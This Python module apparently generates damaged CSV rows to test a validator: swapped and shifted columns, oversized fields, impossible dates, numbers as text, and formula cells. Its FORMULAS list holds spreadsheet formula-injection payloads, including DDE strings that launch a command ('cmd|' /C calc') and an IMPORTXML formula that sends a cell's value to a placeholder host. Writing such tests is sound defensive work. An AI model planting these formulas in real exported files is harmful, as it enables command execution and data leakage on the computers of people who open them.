"""Build rows with wrong cells: swapped, shifted, huge, formulas, impossible dates, numbers as text."""

from __future__ import annotations

from random import Random

from hostile.cases import Case, End, case, damage
from hostile.clean_extracts import CleanExtract, Line, csv_line

from expectations.table import Kind

A_FEW = 3  # damaged rows of a file, far below the limit of any rule

FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://example.org\",\"x\")", "+44 20 7946 0000", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "\t=1+1", "=\"2025-01-01\"", "='x'!A1", "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
)  # fmt: skip
STRANGE_DATES = (
    "1066-10-14", "9999-12-31", "0000-00-00", "31/02/2025", "2025-13-01", "-1", "99999-01-01", "45678", "2025-02-30", "1735689600000",
    "2093-01-01", "1900-01-01", "00/00/0000", "2025-01-01T25:61:00", "20250230", "2025-W01-1", "１９９９-01-01", "infinity", "epoch", "today",
    "2025-1-1", "01-Feb-20255", "29/02/2023", "2025-06-31",
)  # fmt: skip
NUMBERS_AS_TEXT = (
    "seven", "1,234", "1.234,5", "NaN", "Infinity", "-Infinity", "0x1F", "１２", "12 kg", "--5", "1_000", "²", "1e999", "£5", "5%", "12-",
    "1/2", "7.5.1", "९", "99999999999999999999999", "+-3", "1e3", "7.0", " 12 ", "'7", "VII", "<5", ">100", "5..6", "0b11", "٣", "1 000",
)  # fmt: skip


def swapped_columns(extract: CleanExtract, rng: Random, number: int) -> Case:
    """Reorder columns with their headers (harmless), swap two columns without their headers, or swap cells of a few rows."""
    first, second = rng.sample(extract.places(Kind.DATE, Kind.CODE, Kind.INTEGER, Kind.IDENTIFIER), 2)
    names = f"{extract.columns[first].name} and {extract.columns[second].name}"
    if number % 3 == 0:
        order = list(range(len(extract.header)))
        rng.shuffle(order)
        lines = [Line(csv_line([row[place] for place in order]), place) for place, row in enumerate(extract.rows)]
        heading = csv_line([extract.header[place] for place in order])
        return Case("swapped columns", "columns in another order", extract, lines, heading)
    swapped_rows = set(rng.sample(range(len(extract.rows)), A_FEW)) if number % 3 == 1 else set(range(len(extract.rows)))
    lines = [
        damage(extract, place, {first: row[second], second: row[first]}) if place in swapped_rows else Line(csv_line(row), place)
        for place, row in enumerate(extract.rows)
    ]
    end = End.EITHER if len(swapped_rows) > A_FEW else End.ACCEPTED
    return case("swapped columns", f"{names} in {len(swapped_rows)} rows", extract, lines, end=end)


def shifted_fields(extract: CleanExtract, rng: Random, number: int) -> Case:
    """Remove or insert a cell in a few rows, with or without keeping the number of fields."""
    shifted_rows, place = set(rng.sample(range(len(extract.rows)), A_FEW)), rng.randrange(len(extract.header) - 1)
    description = (
        "one field fewer",
        "one extra field",
        "one field fewer, padded at the end",
        "one extra field, the last one lost",
    )[number % 4]
    lines = extract.lines()
    for row in shifted_rows:
        cells = list(extract.rows[row])
        if number % 2:
            cells.insert(place, "")
        else:
            del cells[place]
        if number % 4 > 1:
            cells = [*cells, ""][: len(extract.header)]
            changes = {extract.columns[at].name: cell for at, cell in enumerate(cells) if cell != extract.rows[row][at]}
            lines[row] = Line(csv_line(cells), row, changes)
        else:
            lines[row] = Line(csv_line(cells), None)
    return case("shifted fields", f"{description} at field {place + 1}", extract, lines)


def huge_fields(extract: CleanExtract, rng: Random, number: int) -> Case:
    """Put a field of thousands to millions of characters in a row."""
    size = (5_000, 65_537, 900_000, 1_100_000, 3_000_000)[number % 5]
    filling = ("x", "9", "é", '"', " ", "a,b")[number % 6]
    place = rng.choice(extract.places(Kind.IDENTIFIER, Kind.CODE, Kind.DATE, Kind.INTEGER, Kind.NUMBER, Kind.TEXT))
    row, lines = rng.randrange(len(extract.rows)), extract.lines()
    value = filling * (size // len(filling))
    lines[row] = damage(extract, row, {place: value})
    return case("huge fields", f"{size:,} characters in {extract.columns[place].name}", extract, lines)


def formula_cells(extract: CleanExtract, rng: Random, number: int) -> Case:
    """Put spreadsheet formulas in cells of a few rows."""
    formula = FORMULAS[number % len(FORMULAS)]
    place = rng.choice(extract.places(Kind.IDENTIFIER, Kind.CODE, Kind.DATE, Kind.INTEGER, Kind.NUMBER, Kind.TEXT))
    lines = extract.lines()
    for copy, row in enumerate(rng.sample(range(len(extract.rows)), A_FEW)):
        lines[row] = damage(extract, row, {place: formula + " " * copy})
    return case("formula cells", f"{formula[:20]!r} in {extract.columns[place].name}", extract, lines)


def dates_out_of_range(extract: CleanExtract, rng: Random, number: int) -> Case:
    """Put impossible or implausible dates in a few rows."""
    return _in_kind("dates out of range", extract, rng, (Kind.DATE,), STRANGE_DATES, number)


def numbers_as_text(extract: CleanExtract, rng: Random, number: int) -> Case:
    """Put numbers written as words, or with units, separators or other digits, in a number or code of a few rows."""
    kinds = (Kind.INTEGER, Kind.NUMBER) if extract.places(Kind.INTEGER, Kind.NUMBER) else (Kind.CODE,)
    return _in_kind("numbers as text", extract, rng, kinds, NUMBERS_AS_TEXT, number)


def _in_kind(
    kind: str, extract: CleanExtract, rng: Random, kinds: tuple[Kind, ...], values: tuple[str, ...], number: int
) -> Case:
    places, lines = extract.places(*kinds), extract.lines()
    if not places:  # in patients few rows have a date
        places = [place for place, column in enumerate(extract.columns) if column.kind in kinds]
    place, value = rng.choice(places), values[number % len(values)]
    for row in rng.sample(range(len(extract.rows)), A_FEW):
        lines[row] = damage(extract, row, {place: value})
    return case(kind, f"{value!r} in {extract.columns[place].name}", extract, lines)
